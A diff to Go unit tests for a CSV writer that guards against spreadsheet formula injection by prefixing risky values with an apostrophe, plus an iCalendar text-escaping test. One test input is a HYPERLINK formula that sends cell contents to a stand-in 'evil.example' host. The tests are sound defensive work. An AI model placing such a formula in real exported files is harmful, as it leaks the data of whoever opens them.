@@ -11,50 +11,40 @@ import (
 	"unicode/utf8"
 )
 
-func TestSafeCell(t *testing.T) {
+// TestCSV checks that rows read back through encoding/csv as written,
+// whatever the values hold, a value a spreadsheet would take for a
+// formula with an apostrophe in front.
+func TestCSV(t *testing.T) {
 	for _, tt := range []struct{ in, want string }{
 		{`=HYPERLINK("http://evil.example/?d="&A1,"Click")`, `'=HYPERLINK("http://evil.example/?d="&A1,"Click")`},
 		{"+44 1632 960100", "'+44 1632 960100"},
 		{"-2+3", "'-2+3"},
 		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
 		{"\t=1+1", "'\t=1+1"},
-		{"\r=1+1", "'\r=1+1"},
+		{"\r\n=1+1", "'\n=1+1"}, // encoding/csv reads CRLF in a field as LF
 		{"\n=1+1", "'\n=1+1"},
 		{"Docman 10", "Docman 10"},
-		{"a=b", "a=b"},
+		{"a=b, c-d", "a=b, c-d"},
 		{"'quoted", "'quoted"},
+		{`quote "here"`, `quote "here"`},
+		{"semi;colon", "semi;colon"},
+		{"line\nbreak", "line\nbreak"},
+		{"Zoë’s “forms” — 10°", "Zoë’s “forms” — 10°"},
+		{" leading space", " leading space"},
+		{`back\slash`, `back\slash`},
 		{"", ""},
 	} {
-		if got := safeCell(tt.in); got != tt.want {
-			t.Errorf("safeCell(%q) = %q, want %q", tt.in, got, tt.want)
+		row := appendCSVRow(nil, []string{tt.in, "next"})
+		if !bytes.HasSuffix(row, []byte("\"next\"\r\n")) || !bytes.HasPrefix(row, []byte(`"`)) {
+			t.Errorf("%q: the row is not quoted and ended by CRLF: %q", tt.in, row)
 		}
-	}
-}
-
-// TestCSVRow checks that rows read back through encoding/csv as written,
-// guarded, whatever the values hold.
-func TestCSVRow(t *testing.T) {
-	rows := [][]string{
-		{"plain", "", "comma, here", `quote "here"`, "semi;colon"},
-		{"line\nbreak", "Zoë’s “forms” — 10°", "=1+1", " leading space", `back\slash`},
-	}
-	var b strings.Builder
-	for _, r := range rows {
-		writeCSVRow(&b, r)
-	}
-	out := b.String()
-	if !strings.HasSuffix(out, "\r\n") || strings.Count(out, "\r\n") != len(rows) {
-		t.Errorf("rows do not each end in CRLF:\n%q", out)
-	}
-	got, err := csv.NewReader(strings.NewReader(out)).ReadAll()
-	if err != nil {
-		t.Fatal(err)
-	}
-	for i, r := range rows {
-		for j, v := range r {
-			if want := safeCell(v); got[i][j] != want {
-				t.Errorf("row %d field %d reads back as %q, want %q", i, j, got[i][j], want)
-			}
+		got, err := csv.NewReader(bytes.NewReader(row)).Read()
+		if err != nil {
+			t.Errorf("%q: %v", tt.in, err)
+			continue
+		}
+		if len(got) != 2 || got[0] != tt.want {
+			t.Errorf("%q reads back as %q, want %q", tt.in, got, tt.want)
 		}
 	}
 }
@@ -129,11 +119,12 @@ func TestFoldAndEscape(t *testing.T) {
 		"Reprint the forms, then file them; ask Zoë about C:\\forms\nand the “paper” list",
 		"tab\there, CRLF\r\nline, CR\ronly",
 		"control\x01\x7fcharacters",
+		"bad \xff UTF-8, and a lone CR at the end\r",
 	}
 	for _, text := range texts {
 		w := &icalWriter{}
 		w.text("DESCRIPTION", text)
-		lines := unfold(t, w.b.String())
+		lines := unfold(t, string(w.b))
 		if len(lines) != 1 {
 			t.Fatalf("%q: %d content lines, want 1", text, len(lines))
 		}
@@ -141,7 +132,7 @@ func TestFoldAndEscape(t *testing.T) {
 		if !ok {
 			t.Fatalf("%q: content line %q", text, lines[0])
 		}
-		want := strings.NewReplacer("\r\n", "\n", "\r", "\n", "\x01", "", "\x7f", "").Replace(text)
+		want := strings.ToValidUTF8(strings.NewReplacer("\r\n", "\n", "\r", "\n", "\x01", "", "\x7f", "").Replace(text), "\uFFFD")
 		got, err := unescapeText(value)
 		if err != nil {
 			t.Errorf("%q: %v", text, err)
